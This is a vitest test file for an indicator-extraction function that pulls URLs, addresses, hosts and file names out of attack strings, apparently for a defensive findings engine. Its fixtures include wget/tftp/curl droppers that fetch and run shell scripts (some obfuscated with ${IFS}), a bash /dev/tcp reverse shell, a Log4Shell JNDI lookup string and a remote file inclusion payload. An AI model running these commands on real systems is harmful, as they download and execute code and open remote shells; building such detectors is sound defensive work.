import { describe, expect, it } from 'vitest'
import { indicatorsOf } from '../../../src/engine/findings/indicators.ts'
import { fastest } from '../../fastest.ts'

const valuesOf = (...texts: string[]): string[] =>
  indicatorsOf(texts).map(({ kind, value }) => `${kind} ${value}`)

describe('indicators', () => {
  it('cuts a dropper at the shell’s separators, whether spaces are spelled ${IFS} or not', () => {
    const expected = ['url http://94.26.90.205/wget.sh', 'address 94.26.90.205', 'file wget.sh']
    expect(
      valuesOf(
        'cd${IFS}/dev;wget${IFS}http://94.26.90.205/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh',
      ),
    ).toEqual(expected)
    expect(
      valuesOf('cd /dev;wget http://94.26.90.205/wget.sh; chmod +x wget.sh;sh wget.sh'),
    ).toEqual(expected)
    expect(valuesOf('`wget http://94.26.90.205/wget.sh&&sh wget.sh`')).toEqual(expected)
  })
  it.each([
    [
      'x=$(curl -s http://203.0.113.9:8080/a|sh)',
      ['url http://203.0.113.9:8080/a', 'address 203.0.113.9', 'file a'],
    ],
    [
      'wget 203.0.113.9/bins/mips -O /tmp/m.sh; chmod 777 m.sh',
      ['address 203.0.113.9', 'file m.sh'],
    ],
    [
      'cd /tmp; tftp -g -r boot.sh 203.0.113.9; sh boot.sh',
      ['address 203.0.113.9', 'file boot.sh'],
    ],
    ['bash -i >& /dev/tcp/198.51.100.4/4444 0>&1', ['address 198.51.100.4']],
    [
      '${jndi:ldap://evil.example:1389/Basic/x}',
      ['url ldap://evil.example:1389/Basic/x', 'host evil.example'],
    ],
    [
      'page=http://files.example/c99.txt?',
      ['url http://files.example/c99.txt', 'host files.example', 'file c99.txt'],
    ],
    [
      '<a href="https://spam.example/buy">x</a>',
      ['url https://spam.example/buy', 'host spam.example'],
    ],
  ])('finds in %s', (text, expected) => {
    expect(valuesOf(text)).toEqual(expected)
  })
  it.each([
    '<svg xmlns="http://www.w3.org/2000/svg" onload=x>',
    'url=http://localhost/admin',
    'id=1 union select 1.2.3.4',
    'http://127.0.0.1/x',
    'http:///',
  ])('finds nothing in %s', (text) => {
    expect(indicatorsOf([text])).toEqual([])
  })
  it('leaves out the site itself', () => {
    expect(indicatorsOf(['next=https://shop.example/a'], new Set(['shop.example']))).toEqual([])
  })
  it('gives each once, and not more than fifty', () => {
    expect(valuesOf('http://a.example/x', 'http://a.example/x')).toHaveLength(2)
    expect(
      indicatorsOf(Array.from({ length: 300 }, (_, i) => `http://h${i}.example/`)),
    ).toHaveLength(50)
  })
  it('takes linear time on filler', () => {
    const all = (): void => {
      for (const filler of [
        'a',
        'http://',
        '1.',
        './',
        'sh ',
        'wget -O ',
        '\u0000',
        'a.',
        'a-',
        'chmod + ',
      ])
        indicatorsOf(
          Array.from({ length: 100 }, () => `wget ${filler.repeat(65_536 / filler.length)}`),
        )
    }
    expect(fastest(all, 2)).toBeLessThan(2000)
  })
})
